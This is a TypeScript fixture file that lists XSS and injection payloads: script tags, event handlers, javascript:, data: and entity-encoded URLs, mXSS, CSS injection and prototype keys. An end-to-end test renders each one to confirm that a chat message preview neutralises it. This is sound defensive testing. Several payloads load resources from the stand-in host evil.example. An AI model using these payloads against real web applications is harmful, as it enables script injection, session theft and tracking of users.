/*
 * Hostile inputs for the preview, XSS cheat-sheet style. Every payload that could run calls
 * `__pwned(id)` (or `alert`), which the Playwright test defines to raise a page-level flag;
 * payloads that could load something point at evil.example, which the test watches for.
 * The e2e test (e2e/preview-hostile.spec.ts) renders each one in the real app page.
 */

export interface HostileInput {
  id: string;
  /** What the input tries. */
  attack: string;
  msg_type: 'text' | 'markdown' | 'rich_text' | 'interactive';
  content: unknown;
}

const P = (id: string): string => `__pwned('${id}')`;

const markdown = (id: string, attack: string, text: string): HostileInput => ({
  id,
  attack,
  msg_type: 'markdown',
  content: { text },
});

const cardMarkdown = (id: string, attack: string, text: string): HostileInput => ({
  id,
  attack,
  msg_type: 'interactive',
  content: {
    header: { template: 'blue', title: { content: attack } },
    elements: [{ tag: 'markdown', content: text }],
  },
});

const richText = (id: string, attack: string, inline: unknown[]): HostileInput => ({
  id,
  attack,
  msg_type: 'rich_text',
  content: [{ type: 'paragraph', content: inline }],
});

const button = (id: string, attack: string, fields: Record<string, unknown>): HostileInput => ({
  id,
  attack,
  msg_type: 'interactive',
  content: {
    header: { template: 'red', title: { content: attack } },
    elements: [
      {
        tag: 'action',
        action: [{ tag: 'button', text: { content: 'Open', tag: 'plain_text' }, ...fields }],
      },
    ],
  },
});

const link = (href: string) => [{ type: 'text', text: 'click me', marks: [{ type: 'link', attrs: { href } }] }];

export const HOSTILE_CORPUS: HostileInput[] = [
  // Raw HTML in markdown: must all show as text.
  markdown('md-script', 'script tag', `<script>${P('md-script')}</script>`),
  markdown('md-img-onerror', 'img onerror', `<img src=x onerror="${P('md-img-onerror')}">`),
  markdown('md-svg-onload', 'svg onload', `<svg onload="${P('md-svg-onload')}"></svg>`),
  markdown('md-svg-animate', 'svg animate href', `<svg><a><animate attributeName=href values=javascript:${P('md-svg-animate')} /><text x=20 y=20>X</text></a></svg>`),
  markdown('md-iframe', 'iframe javascript: src', `<iframe src="javascript:${P('md-iframe')}"></iframe>`),
  markdown('md-iframe-srcdoc', 'iframe srcdoc', `<iframe srcdoc="<script>parent.${P('md-iframe-srcdoc')}</script>"></iframe>`),
  markdown('md-object', 'object data', `<object data="javascript:${P('md-object')}"></object>`),
  markdown('md-embed', 'embed src', `<embed src="javascript:${P('md-embed')}">`),
  markdown('md-style-tag', 'style tag with url()', `<style>body{background:url("javascript:${P('md-style-tag')}")}</style>`),
  markdown('md-link-tag', 'stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  markdown('md-meta-refresh', 'meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${P('md-meta-refresh')}">`),
  markdown('md-base', 'base href hijack', `<base href="javascript:${P('md-base')}//">[rel](/a)`),
  markdown('md-form', 'form action', `<form action="javascript:${P('md-form')}"><button>go</button></form>`),
  markdown('md-details', 'details ontoggle', `<details open ontoggle="${P('md-details')}">x</details>`),
  markdown('md-input-autofocus', 'input autofocus onfocus', `<input autofocus onfocus="${P('md-input-autofocus')}">`),
  markdown('md-body-onload', 'body onload', `<body onload="${P('md-body-onload')}">`),
  markdown('md-video-source', 'video source onerror', `<video><source onerror="${P('md-video-source')}"></video>`),
  markdown('md-mxss-math', 'mXSS through math/style', `<math><mtext><table><mglyph><style><img src=x onerror="${P('md-mxss-math')}">`),
  markdown('md-mxss-noscript', 'mXSS through noscript', `<noscript><p title="</noscript><img src=x onerror=${P('md-mxss-noscript')}>">`),
  markdown('md-raw-anchor', 'raw anchor javascript:', `<a href="javascript:${P('md-raw-anchor')}">x</a>`),
  markdown('md-comment', 'HTML comment breakout', `<!--><img src=x onerror=${P('md-comment')}>-->`),
  markdown('md-cdata', 'CDATA breakout', `<![CDATA[><img src=x onerror=${P('md-cdata')}>]]>`),
  // Markdown link tricks.
  markdown('md-link-js', 'javascript: link', `[click](javascript:${P('md-link-js')})`),
  markdown('md-link-js-case', 'mixed-case scheme', `[click](JaVaScRiPt:${P('md-link-js-case')})`),
  markdown('md-link-entity-dec', 'decimal-entity scheme', `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P('md-link-entity-dec')})`),
  markdown('md-link-entity-hex', 'hex-entity scheme', `[click](&#x6A;avascript&#x3A;${P('md-link-entity-hex')})`),
  markdown('md-link-entity-named', 'named-entity colon', `[click](javascript&colon;${P('md-link-entity-named')})`),
  markdown('md-link-angle', 'angle-bracket destination', `[click](<javascript:${P('md-link-angle')}>)`),
  markdown('md-link-tab', 'tab inside the scheme', `[click](<java\tscript:${P('md-link-tab')}>)`),
  markdown('md-link-vbscript', 'vbscript: link', '[click](vbscript:msgbox(1))'),
  markdown('md-link-data', 'data: HTML link', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgnbWQtbGluay1kYXRhJyk8L3NjcmlwdD4=)'),
  markdown('md-link-reference', 'reference-style javascript:', `[click][r]\n\n[r]: javascript:${P('md-link-reference')}`),
  markdown('md-link-title-quote', 'title attribute breakout', `[a](https://example.com "t\\" onmouseover=\\"${P('md-link-title-quote')}")`),
  markdown('md-link-href-quote', 'href attribute breakout', `[a](https://example.com/"onmouseover="${P('md-link-href-quote')})`),
  markdown('md-autolink-js', 'javascript: autolink', `<javascript:${P('md-autolink-js')}>`),
  markdown('md-image-js', 'image with javascript: src', `![x](javascript:${P('md-image-js')})`),
  markdown('md-image-onerror', 'image alt/src breakout', `![x" onerror="${P('md-image-onerror')}](https://evil.example/x.png" onerror="${P('md-image-onerror')})`),
  markdown('md-fence-info', 'fenced code info string', '```"><script>__pwned(\'md-fence-info\')</script>\ncode\n```'),
  markdown('md-code-span', 'payload in code span', `\`<img src=x onerror=${P('md-code-span')}>\``),
  markdown('md-entities', 'entity-encoded tags', `&lt;script&gt;${P('md-entities')}&lt;/script&gt; &#60;img src=x onerror=${P('md-entities')}&#62;`),
  // Mind's own tags.
  markdown('font-onmouseover', 'event handler on <font>', `<font color="red" onmouseover="${P('font-onmouseover')}">hover</font>`),
  markdown('font-color-breakout', 'colour attribute breakout', `<font color="red\\"><img src=x onerror=${P('font-color-breakout')}>">x</font>`),
  markdown('font-color-css', 'CSS injected through the colour', `<font color="red;background:url(https://evil.example/bg.png)">x</font>`),
  markdown('font-color-expression', 'expression() as colour', `<font color=expression(${P('font-color-expression')})>x</font>`),
  markdown('font-inner-script', 'script inside <font>', `<font color=red><script>${P('font-inner-script')}</script></font>`),
  markdown('small-onclick', 'event handler on <small>', `<small onclick="${P('small-onclick')}" style="position:fixed;inset:0">x</small>`),
  markdown('content-expression', 'CSS expression()', `<content style="width:expression(${P('content-expression')})">x</content>`),
  markdown('content-url-js', 'url(javascript:)', `<content style="background:url(javascript:${P('content-url-js')})">x</content>`),
  markdown('content-url-remote', 'url() loading a remote image', '<content style="background-image:url(https://evil.example/track.png);-webkit-line-clamp:2">x</content>'),
  markdown('content-behavior', 'IE behavior', '<content style="behavior:url(https://evil.example/x.htc)">x</content>'),
  markdown('content-moz-binding', '-moz-binding', '<content style="-moz-binding:url(https://evil.example/x.xml#xss)">x</content>'),
  markdown('content-import', '@import', '<content style="@import url(https://evil.example/x.css);color:red">x</content>'),
  markdown('content-escape', 'CSS escapes', '<content style="background:\\75 \\72 \\6C (https://evil.example/e.png)">x</content>'),
  markdown('content-style-breakout', 'style attribute breakout', `<content style="color:red&quot; onmouseover=&quot;${P('content-style-breakout')}">x</content>`),
  markdown('content-overlay', 'page-covering overlay', '<content style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</content>'),
  markdown('content-onmouseover', 'event handler on <content>', `<content style="-webkit-line-clamp:2" onmouseover="${P('content-onmouseover')}">x</content>`),
  markdown('redos-attributes', 'an endless unclosed tag', `<font${' a=b'.repeat(5000)}`),
  markdown('deep-nesting', 'thousands of nested tags', `${'<small>'.repeat(3000)}deep`),
  cardMarkdown('card-md-script', 'script in a card markdown element', `<script>${P('card-md-script')}</script><img src=x onerror=${P('card-md-script')}>`),
  cardMarkdown('card-md-link', 'javascript: link in a card', `[x](javascript:${P('card-md-link')}) <font color=red onclick=${P('card-md-link')}>x</font>`),
  // rich_text.
  richText('rt-link-js', 'javascript: link mark', link(`javascript:${P('rt-link-js')}`)),
  richText('rt-link-space', 'link with a leading space and tab', link(` \tjavascript:${P('rt-link-space')}`)),
  richText('rt-link-data', 'data: link mark', link('data:text/html,<script>__pwned(\'rt-link-data\')</script>')),
  richText('rt-link-attrs', 'extra attributes on a link mark', [
    { type: 'text', text: 'ok', marks: [{ type: 'link', attrs: { href: 'https://example.com', onclick: P('rt-link-attrs'), class: `x" onmouseover="${P('rt-link-attrs')}`, target: 'javascript:x' } }] },
  ]),
  richText('rt-emoji-js', 'emoji src javascript:', [{ type: 'emoji', attrs: { alt: 'x', src: `javascript:${P('rt-emoji-js')}` } }]),
  richText('rt-emoji-svg', 'emoji src data: SVG', [{ type: 'emoji', attrs: { alt: 'x', src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${P('rt-emoji-svg')}"/>` } }]),
  richText('rt-emoji-quote', 'emoji src attribute breakout', [{ type: 'emoji', attrs: { alt: 'x', src: `/x.png" onerror="${P('rt-emoji-quote')}` } }]),
  richText('rt-emoji-protocol-relative', 'emoji from another host', [{ type: 'emoji', attrs: { alt: 'x', src: '//evil.example/x.png' } }]),
  richText('rt-mention-html', 'HTML in a mention', [{ type: 'mention', attrs: { id: `"><img src=x onerror=${P('rt-mention-html')}>`, label: `<img src=x onerror=${P('rt-mention-html')}>` } }]),
  richText('rt-text-html', 'HTML in a text node', [{ type: 'text', text: `<script>${P('rt-text-html')}</script><img src=x onerror=${P('rt-text-html')}>` }]),
  richText('rt-unknown-node', 'HTML as a node type', [{ type: `<img src=x onerror=${P('rt-unknown-node')}>` }]),
  richText('rt-inner-html', 'dangerouslySetInnerHTML in attrs', [
    { type: 'text', text: 'x', attrs: { dangerouslySetInnerHTML: { __html: `<img src=x onerror=${P('rt-inner-html')}>` } } },
  ]),
  richText('rt-text-style', 'CSS through a textStyle colour', [{ type: 'text', text: 'x', marks: [{ type: 'textStyle', attrs: { color: 'red;background:url(https://evil.example/c.png)' } }] }]),
  {
    id: 'rt-image-js',
    attack: 'image src javascript: and alt breakout',
    msg_type: 'rich_text',
    content: [{ type: 'image', attrs: { src: `javascript:${P('rt-image-js')}`, alt: `"><img src=x onerror=${P('rt-image-js')}>`, title: null } }],
  },
  {
    id: 'rt-image-remote',
    attack: 'remote image that fails (onerror must not be ours to abuse)',
    msg_type: 'rich_text',
    content: [{ type: 'image', attrs: { src: 'https://evil.example/missing.png', alt: `<script>${P('rt-image-remote')}</script>` } }],
  },
  {
    id: 'rt-heading-level',
    attack: 'attribute injection through heading level and list start',
    msg_type: 'rich_text',
    content: [
      { type: 'heading', attrs: { level: `1 onclick=${P('rt-heading-level')}` }, content: [{ type: 'text', text: 'h' }] },
      { type: 'orderedList', attrs: { start: `1" onclick="${P('rt-heading-level')}` }, content: [] },
    ],
  },
  // Cards and buttons.
  button('btn-js', 'view button javascript:', { type: 'view', url: `javascript:${P('btn-js')}` }),
  button('btn-js-case', 'view button mixed-case javascript:', { type: 'view', url: `JaVaScRiPt:${P('btn-js-case')}` }),
  button('btn-js-space', 'view button leading space', { type: 'view', url: ` javascript:${P('btn-js-space')}` }),
  button('btn-js-newline', 'view button newline in scheme', { type: 'view', url: `java\nscript:${P('btn-js-newline')}` }),
  button('btn-data', 'view button data: URL', { type: 'view', url: `data:text/html,<script>${P('btn-data')}</script>` }),
  button('btn-vbscript', 'view button vbscript:', { type: 'view', url: 'vbscript:msgbox(1)' }),
  button('btn-entity', 'view button entity-encoded scheme', { type: 'view', url: `&#106;avascript:${P('btn-entity')}` }),
  button('btn-url-breakout', 'view button URL attribute breakout', { type: 'view', url: `https://example.com/" onclick="${P('btn-url-breakout')}` }),
  button('btn-click-html', 'click button with HTML event and value', {
    type: 'click',
    event: `<img src=x onerror=${P('btn-click-html')}>`,
    value: { html: `<script>${P('btn-click-html')}</script>`, card_id: '$card_id' },
  }),
  button('btn-text-html', 'HTML in a button label and template', {
    type: 'click',
    event: 'e',
    text: { content: `<img src=x onerror=${P('btn-text-html')}>` },
    template: `white" onmouseover="${P('btn-text-html')}`,
  }),
  {
    id: 'card-title-html',
    attack: 'HTML in the card title and template',
    msg_type: 'interactive',
    content: {
      header: { template: `red" onmouseover="${P('card-title-html')}`, title: { content: `<img src=x onerror=${P('card-title-html')}>` } },
      elements: [{ tag: `<svg onload=${P('card-title-html')}>` }, { tag: 'action', action: [{ tag: `<script>${P('card-title-html')}</script>` }] }],
    },
  },
  {
    id: 'card-proto',
    attack: 'prototype keys in the card',
    msg_type: 'interactive',
    content: JSON.parse('{"__proto__":{"onload":"__pwned(\'card-proto\')"},"constructor":{"prototype":{"x":1}},"header":{"title":{"content":"proto"}},"elements":[{"tag":"markdown","content":"x","__proto__":{"tag":"script"}}]}') as unknown,
  },
  { id: 'text-html', attack: 'HTML in a text message', msg_type: 'text', content: { text: `<script>${P('text-html')}</script><img src=x onerror=${P('text-html')}>` } },
];
